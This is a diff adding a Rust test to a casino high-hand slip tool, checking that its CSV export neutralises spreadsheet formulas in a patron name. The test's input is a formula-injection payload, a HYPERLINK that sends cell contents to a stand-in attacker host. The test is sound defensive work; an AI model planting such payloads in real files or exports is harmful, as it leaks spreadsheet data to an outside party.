@@ -239,3 +239,61 @@ fn the_floorperson_records_a_high_hand_on_the_screen() {
         ("Lee", "Full house, sevens full of kings", "1001")
     );
 }
+
+/// A patron's name a spreadsheet would run (`=HYPERLINK(...)`) is recorded as keyed, and the
+/// supervisor's CSV export (`deckhand export`, the same writer as the review's) hands it over as
+/// text: read back by a real CSV reader, no cell starts with a formula character.
+#[test]
+fn a_formula_for_a_name_on_a_high_hand_slip_is_exported_as_text() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("hh.sqlite");
+    let name = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Rosa")"#;
+    {
+        let mut t = open(&db);
+        let line = t.record_high_hand(
+            "2026-11-22T07:00Z",
+            3,
+            name,
+            "2155550142",
+            parse_cards("Kh Kd Kc 4s 4h").unwrap(),
+            "1001",
+            "2468",
+        );
+        assert_eq!(line, Ok(1));
+    }
+    let out = std::process::Command::new(env!("CARGO_BIN_EXE_deckhand"))
+        .args(["export", "--db", db.to_str().unwrap()])
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(out.stdout.as_slice());
+    let cells: Vec<String> = reader
+        .records()
+        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
+        .collect();
+    assert!(cells.len() > 13, "the export has rows");
+    for c in &cells {
+        assert!(
+            !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a cell a spreadsheet would run: {c:?}"
+        );
+    }
+    // The record keeps the name exactly as keyed, inside the row's payload.
+    let payloads: Vec<serde_json::Value> = cells
+        .iter()
+        .filter(|c| c.starts_with('{'))
+        .map(|c| serde_json::from_str(c).unwrap())
+        .collect();
+    assert!(
+        payloads.iter().any(|p| p
+            .to_string()
+            .contains(&serde_json::to_string(name).unwrap()[1..20])),
+        "the slip line keeps the keyed name"
+    );
+}
